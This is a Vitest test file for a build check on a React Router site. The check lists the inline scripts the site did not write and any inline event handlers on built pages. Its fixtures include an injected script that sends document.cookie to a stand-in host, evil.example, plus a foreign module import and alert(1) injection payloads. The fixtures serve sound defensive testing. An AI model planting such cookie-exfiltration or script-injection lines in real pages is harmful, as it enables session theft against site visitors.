// @vitest-environment node
// A built page may carry only the inline scripts the site wrote: the listed ones, React Router's own (code fixed,
// data in between), nothing else, and no inline event handler. Each row is a page and what the build must say.
import { describe, expect, it } from "vitest";
import {
  inlineEventHandlers,
  isReactRouterScript,
  runnableInlineScripts,
  strayScripts,
} from "./page-scripts";

const allowed = { theme: "theme()", "speculation rules": `{"prerender":[]}` };

// React Router 8's <Scripts/> on a hydrating page, as the build writes them (data trimmed).
const routerContext = `window.__reactRouterContext = {"basename":"/","ssr":false,"isSpaMode":false};window.__reactRouterContext.stream = new ReadableStream({start(controller){window.__reactRouterContext.streamController = controller;}}).pipeThrough(new TextEncoderStream());`;
const routerModules = `import "/assets/manifest-af190938.js";
import * as route0 from "/assets/root-DRhcw1cf.js";
import * as route1 from "/assets/contact-sJk_lIGZ.js";
  
  window.__reactRouterRouteModules = {"root":route0,"routes/contact":route1};

import("/assets/entry.client-B-lWp7Sp.js");`;
const routerEnqueue = String.raw`window.__reactRouterContext.streamController.enqueue("[{\"_1\":2},\"loaderData\"]\n");`;
const routerClose = "window.__reactRouterContext.streamController.close();";

const page = (body: string) => `<html><head><meta charSet="utf-8"/></head><body>${body}</body></html>`;

describe("runnableInlineScripts", () => {
  it("lists classic, module and speculation-rule scripts in any letter case, and skips what never runs", () => {
    const html = [
      `<script>a()</script>`,
      `<SCRIPT type="module">b()</SCRIPT >`,
      `<script type="speculationrules">{}</script>`,
      `<script src="/x.js"></script>`,
      `<script type="application/ld+json">{"@type":"Person"}</script>`,
      `<script></script>`,
    ].join("");
    expect(runnableInlineScripts(html).map((script) => script.text)).toEqual(["a()", "b()", "{}"]);
  });
});

describe("isReactRouterScript", () => {
  it("recognises each script React Router writes on the page that hydrates", () => {
    expect(isReactRouterScript({ attributes: "", text: routerContext })).toBe(true);
    expect(isReactRouterScript({ attributes: ` type="module" async=""`, text: routerModules })).toBe(true);
    expect(isReactRouterScript({ attributes: "", text: routerEnqueue })).toBe(true);
    expect(isReactRouterScript({ attributes: "", text: routerClose })).toBe(true);
  });

  it("recognises the module script of a site under a base path, and only its own chunks there", () => {
    const module = {
      attributes: ` type="module"`,
      text: routerModules.replaceAll(`"/assets/`, `"/portfolio/assets/`),
    };
    expect(isReactRouterScript(module, "/portfolio/")).toBe(true);
    expect(isReactRouterScript(module)).toBe(false);
    expect(isReactRouterScript({ attributes: ` type="module"`, text: routerModules }, "/portfolio/")).toBe(
      false,
    );
    const other = { attributes: ` type="module"`, text: `import "/portfolioXx/assets/a.js";` };
    expect(isReactRouterScript(other, "/portfolio.x/")).toBe(false);
  });

  it.each([
    ["code where the context's JSON goes", "", routerContext.replace(`"ssr":false`, `"ssr":alert(1)`)],
    ["a statement after the stream's data", "", routerEnqueue.replace(");", ");alert(1);")],
    ["a string that is not JSON", "", `window.__reactRouterContext.streamController.enqueue("a"+alert(1));`],
    ["an import from another site", ` type="module"`, `import "https://evil.example/x.js";`],
    ["an extra line of code", ` type="module"`, `${routerModules}\nalert(1);`],
    ["the module script without type=module", "", routerModules],
    ["an empty module script", ` type="module"`, "  \n "],
  ])("refuses %s", (_case, attributes, text) => {
    expect(isReactRouterScript({ attributes, text })).toBe(false);
  });
});

describe("inlineEventHandlers", () => {
  it("finds an event-handler attribute on any element, in any letter case and quoting, with or without a value", () => {
    const html = `<img src="/a.png" onerror="alert(1)"><svg><a ONCLICK='x()'/></svg><body onload=go()><p title="x"onmouseover="y"><img/onerror=z()><div onfocus>`;
    expect(inlineEventHandlers(html)).toEqual([
      "onerror= on <img>",
      "onclick= on <a>",
      "onload= on <body>",
      "onmouseover= on <p>",
      "onerror= on <img>",
      "onfocus= on <div>",
    ]);
  });

  it("reads no handler into text, attribute values, comments, scripts or styles", () => {
    const html = [
      `<p>Write onclick="x" in a handler &lt;img onerror=y&gt;</p>`,
      `<a title="see onclick=x" data-note='onerror="y"' href="/on">on</a>`,
      `<!-- <img onerror="x"> -->`,
      `<script>document.write('<img onerror=x>')</script>`,
      `<style>a[onclick]{color:red}</style>`,
      `<button data-theme-toggle="dark" aria-pressed="false">`,
    ].join("");
    expect(inlineEventHandlers(html)).toEqual([]);
  });

  it("still reads the attributes of a script's own tag", () => {
    expect(inlineEventHandlers(`<script src="/a.js" onload="x()"></script>`)).toEqual([
      "onload= on <script>",
    ]);
  });
});

describe("strayScripts", () => {
  // What the build must say for each page: nothing for what the site wrote, the page and the finding otherwise.
  const table: [string, string, string[]][] = [
    [
      "the site's own scripts",
      `<script>theme()</script><script type="speculationrules">{"prerender":[]}</script>`,
      [],
    ],
    [
      "React Router's scripts",
      `<script>${routerContext}</script><script type="module" async="">${routerModules}</script><script>${routerEnqueue}</script><script>${routerClose}</script>`,
      [],
    ],
    ["a JSON-LD block", `<script type="application/ld+json">{"@context":"https://schema.org"}</script>`, []],
    [
      "a stray script",
      `<script>theme()</script><script>fetch("https://evil.example/?" + document.cookie)</script>`,
      [
        `/post/index.html: an inline script the site did not write: fetch("https://evil.example/?" + document.cookie)`,
      ],
    ],
    [
      "a listed script changed by one character",
      `<script>theme() </script>`,
      ["/post/index.html: an inline script the site did not write: theme()"],
    ],
    [
      "a stray onerror=",
      `<img src="/x.png" onerror="alert(1)">`,
      ["/post/index.html: an inline event handler, onerror= on <img>"],
    ],
  ];

  it.each(table)("%s", (_case, body, expected) => {
    expect(strayScripts([{ path: "/post/index.html", html: page(body) }], allowed)).toEqual(expected);
  });

  it("shortens a long stray script to its start", () => {
    const [finding] = strayScripts(
      [{ path: "/a/index.html", html: page(`<script>${"x".repeat(200)}</script>`) }],
      {},
    );
    expect(finding).toBe(`/a/index.html: an inline script the site did not write: ${"x".repeat(60)}…`);
  });
});
